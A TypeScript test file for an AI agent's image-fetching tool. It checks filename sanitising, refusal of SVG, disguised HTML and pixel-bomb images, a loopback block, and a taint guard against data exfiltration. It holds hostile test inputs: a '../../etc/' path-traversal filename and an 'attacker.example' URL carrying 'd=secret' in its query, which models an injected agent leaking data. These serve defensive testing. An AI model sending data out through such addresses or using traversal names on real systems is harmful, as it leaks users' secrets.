import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type {
  DownloadStager,
  ToolContext,
  WebResourceFetcher,
  WebResourceRequest,
} from '../../../src/main/core/ports';
import {
  createFetchImageTool,
  FETCH_IMAGE_DESCRIPTION,
  FETCH_IMAGE_NAME,
  FETCH_IMAGE_NO_SANDBOX,
  FETCH_IMAGE_SCHEMA_JSON,
} from '../../../src/main/tools/fetch-image';
import {
  DAMAGED_WORKSPACE_PREFIX,
  DamagedWorkspaceError,
} from '../../../src/shared/sandbox-workspace';
import { buildPng, buildPngBomb, HOSTILE_SVG, TINY_JPEG } from '../../support/fetch-images';
import { readSeed, seedToolDefinition, TOOL_PROTOCOL_SEED } from '../../support/seed';

const logger = { debug() {}, info() {}, warn() {}, error() {} };
const context: ToolContext = {
  conversationId: 'conv_9',
  signal: new AbortController().signal,
  logger,
};

function fixedFetcher(body: Buffer, mediaType: string, finalUrl = 'https://img.example/pic') {
  const requests: WebResourceRequest[] = [];
  const fetcher: WebResourceFetcher = {
    fetch: (request) => {
      requests.push(request);
      const refusal = request.checkMediaType(mediaType);
      if (refusal) return Promise.resolve({ ok: false, error: refusal });
      return Promise.resolve({
        ok: true,
        resource: { finalUrl, status: 200, mediaType, charset: null, body },
      });
    },
  };
  return { fetcher, requests };
}

function recordingStager() {
  const staged: { conversationId: string; name: string; sha256: string }[] = [];
  const downloads: DownloadStager = {
    stageDownload: (conversationId, name, bytes) => {
      staged.push({
        conversationId,
        name,
        sha256: createHash('sha256').update(bytes).digest('hex'),
      });
      return Promise.resolve(`/workspace/downloads/${name}`);
    },
  };
  return { downloads, staged };
}

describe('fetch_image tool', () => {
  it('names the way out when no save of the workspace can be read', async () => {
    const downloads: DownloadStager = {
      stageDownload: () =>
        Promise.reject(new DamagedWorkspaceError('/archives/conv_9.tar.zst is damaged')),
    };
    const tool = createFetchImageTool({
      fetcher: fixedFetcher(TINY_JPEG, 'image/jpeg').fetcher,
      downloads,
      scratchConversationId: 's',
    });
    const output = await tool.execute({ url: 'https://img.example/pic.jpg' }, context);
    expect(output.isError).toBe(true);
    expect(output.content).toContain(`${DAMAGED_WORKSPACE_PREFIX} /archives/conv_9.tar.zst`);
    expect(output.content).toContain('aivory sandbox reset-workspace conv_9');
  });

  it('definition is the seed text, verbatim', () => {
    const seed = seedToolDefinition(readSeed(TOOL_PROTOCOL_SEED), FETCH_IMAGE_NAME);
    expect(FETCH_IMAGE_DESCRIPTION).toBe(seed.description);
    expect(FETCH_IMAGE_SCHEMA_JSON).toBe(seed.schema);
    const tool = createFetchImageTool({
      fetcher: fixedFetcher(TINY_JPEG, 'image/jpeg').fetcher,
      downloads: null,
      scratchConversationId: 's',
    });
    expect(tool.description).toBe(seed.description);
    expect(JSON.stringify(tool.inputSchema)).toBe(seed.schema);
  });

  it('stages the bytes under /workspace/downloads with a sanitised name and the sniffed extension', async () => {
    const png = buildPng(4, 3);
    const { fetcher, requests } = fixedFetcher(
      png,
      'image/jpeg',
      'https://img.example/photos/cat.jpg',
    );
    const { downloads, staged } = recordingStager();
    const tool = createFetchImageTool({ fetcher, downloads, scratchConversationId: 's' });
    const output = await tool.execute(
      { url: 'https://img.example/photos/cat.jpg', filename: '../../etc/My Cat.jpg' },
      context,
    );
    expect(output.isError).toBeUndefined();
    expect(output.content).toBe(
      "Saved the image to /workspace/downloads/My_Cat.png (PNG, 4×3 pixels, 73 B) from https://img.example/photos/cat.jpg. Open it in python_execute, e.g. Image.open('/workspace/downloads/My_Cat.png').",
    );
    expect(staged).toEqual([
      {
        conversationId: 'conv_9',
        name: 'My_Cat.png',
        sha256: createHash('sha256').update(png).digest('hex'),
      },
    ]);
    expect(requests[0]?.limits?.maxBodyBytes).toBe(20 * 1024 * 1024);
  });

  it('refuses SVG (by type and by bytes), HTML posing as PNG, and pixel bombs', async () => {
    const { downloads, staged } = recordingStager();
    const run = async (body: Buffer, mediaType: string) =>
      createFetchImageTool({
        fetcher: fixedFetcher(body, mediaType).fetcher,
        downloads,
        scratchConversationId: 's',
      }).execute({ url: 'https://img.example/x' }, context);
    expect(await run(HOSTILE_SVG, 'image/svg+xml')).toMatchObject({
      isError: true,
      content: /SVG images are refused/,
    });
    expect(await run(HOSTILE_SVG, 'image/png')).toMatchObject({
      isError: true,
      content:
        /the content is an SVG document \(SVG images are refused\), not an image \(the server said image\/png\)/,
    });
    expect(await run(Buffer.from('<!doctype html><html>'), 'image/png')).toMatchObject({
      isError: true,
      content: /an HTML page/,
    });
    expect(await run(Buffer.from('hello'), 'text/plain')).toMatchObject({
      isError: true,
      content: /not an image: the server sent text\/plain/,
    });
    expect(await run(buildPngBomb(50_000, 50_000), 'image/png')).toMatchObject({
      isError: true,
      content: /50000×50000 pixels, more than the 50 megapixels/,
    });
    expect(staged).toEqual([]);
  });

  it('says clearly that it needs the sandbox when none is configured', async () => {
    const tool = createFetchImageTool({
      fetcher: fixedFetcher(TINY_JPEG, 'image/jpeg').fetcher,
      downloads: null,
      scratchConversationId: 's',
    });
    expect(await tool.execute({ url: 'https://img.example/x.jpg' }, context)).toEqual({
      content: FETCH_IMAGE_NO_SANDBOX,
      isError: true,
    });
    expect(tool.validate?.({})).toBe('"url" must be a non-empty string');
    expect(tool.validate?.({ url: 'x', filename: 1 })).toBe('"filename" must be a string');
  });

  it('in a tainted turn asks before a query-carrying image address on a new host; a denial or nobody to ask refuses before any request', async () => {
    const png = buildPng(2, 2);
    const { fetcher, requests } = fixedFetcher(png, 'image/png');
    const { downloads, staged } = recordingStager();
    const tool = createFetchImageTool({ fetcher, downloads, scratchConversationId: 's' });
    const tainted: ToolContext = {
      ...context,
      taint: {
        tainted: true,
        reasons: [{ tool: 'web_fetch', detail: 'https://read.example/page' }],
      },
    };
    const exfiltrating = 'https://attacker.example/pixel.png?d=secret';
    const refused = await tool.execute({ url: exfiltrating }, tainted);
    expect(refused).toEqual({
      content: `Could not fetch ${exfiltrating}: not fetched: this page was found after reading untrusted content and would send data in its address, and nobody could be asked (non-interactive run: use --approve all, or fetch the address without its query)`,
      isError: true,
      untrustedSources: [],
    });
    const asked: string[] = [];
    const denied = await tool.execute(
      { url: exfiltrating },
      {
        ...tainted,
        approve: (request) => {
          asked.push(`${request.kind} ${request.toolName} ${String(request.arguments.url)}`);
          return Promise.resolve('deny');
        },
      },
    );
    expect(denied.content).toMatch(/not fetched: the user denied it/);
    expect(asked).toEqual([`web-fetch fetch_image ${exfiltrating}`]);
    expect(requests).toEqual([]);
    expect(staged).toEqual([]);

    // A host the turn already read, and an address without a query, go ahead unasked.
    await tool.execute({ url: 'https://read.example/logo.png?size=2' }, tainted);
    await tool.execute({ url: 'https://other.example/logo.png' }, tainted);
    expect(requests.map((request) => request.url)).toEqual([
      'https://read.example/logo.png?size=2',
      'https://other.example/logo.png',
    ]);
    // A host an earlier fetch_image requested counts as seen too.
    const afterImage: ToolContext = {
      ...context,
      taint: { tainted: true, reasons: [{ tool: 'fetch_image', detail: exfiltrating }] },
    };
    await tool.execute({ url: 'https://attacker.example/again.png?d=2' }, afterImage);
    expect(requests.at(-1)?.url).toBe('https://attacker.example/again.png?d=2');
  });

  it('an address the guard refused before any request read nothing: no taint source; a refused redirect still counts', async () => {
    const { downloads } = recordingStager();
    const refusing = (result: {
      error: string;
      refusedBeforeRequest?: true;
    }): WebResourceFetcher => ({
      fetch: () => Promise.resolve({ ok: false, ...result }),
    });
    const refusedFirst = createFetchImageTool({
      fetcher: refusing({
        error: 'blocked: 127.0.0.1 is a loopback address',
        refusedBeforeRequest: true,
      }),
      downloads,
      scratchConversationId: 's',
    });
    const first = await refusedFirst.execute({ url: 'http://127.0.0.1/cat.png' }, context);
    expect(first).toMatchObject({ isError: true, untrustedSources: [] });
    const refusedLater = createFetchImageTool({
      fetcher: refusing({ error: 'blocked: 127.0.0.1 is a loopback address (after a redirect)' }),
      downloads,
      scratchConversationId: 's',
    });
    const later = await refusedLater.execute({ url: 'https://img.example/cat.png' }, context);
    expect(later.isError).toBe(true);
    expect(later.untrustedSources).toBeUndefined();
  });
});
